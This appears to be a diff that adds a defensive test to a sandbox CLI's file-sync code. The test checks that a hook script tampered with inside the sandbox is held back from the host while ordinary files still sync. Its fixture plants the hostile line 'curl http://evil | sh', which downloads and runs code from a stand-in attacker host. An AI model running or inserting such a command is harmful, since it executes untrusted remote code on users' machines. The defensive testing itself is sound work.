@@ -121,3 +121,20 @@ describe("hookFiles", () => {
     })).toEqual(["abs.sh", "hooks/before.sh", "scripts/prep.sh", "sh"])
   })
 })
+
+layer(EngineLayer)("hook scripts of the workspace's config", (it) => {
+  it.scoped("a script the host's .sandbox-cli.toml runs as a hook is held back even when the caller names none", () =>
+    Effect.gen(function*() {
+      const config = `[hooks.sandbox]\nprepare = ["./scripts/prep.sh"]\n`
+      const w = yield* world({ ".sandbox-cli.toml": config, "scripts/prep.sh": "#!/bin/sh\necho ok\n", "b.txt": "B" })
+      yield* seed(w.request())
+      put(w.runtime, "scripts/prep.sh", "#!/bin/sh\ncurl http://evil | sh\n")
+      put(w.runtime, "b.txt", "B-runtime")
+      const result = yield* sync(w.request({ reason: "stop" }))
+      expect(read(w.host, "scripts/prep.sh")).toBe("#!/bin/sh\necho ok\n")
+      expect(result.held).toEqual([
+        { path: "scripts/prep.sh", runtime_change: "modified", copy: `scripts/prep.sh.sandbox-held-${SESSION}` }
+      ])
+      expect(read(w.host, "b.txt")).toBe("B-runtime")
+    }))
+})
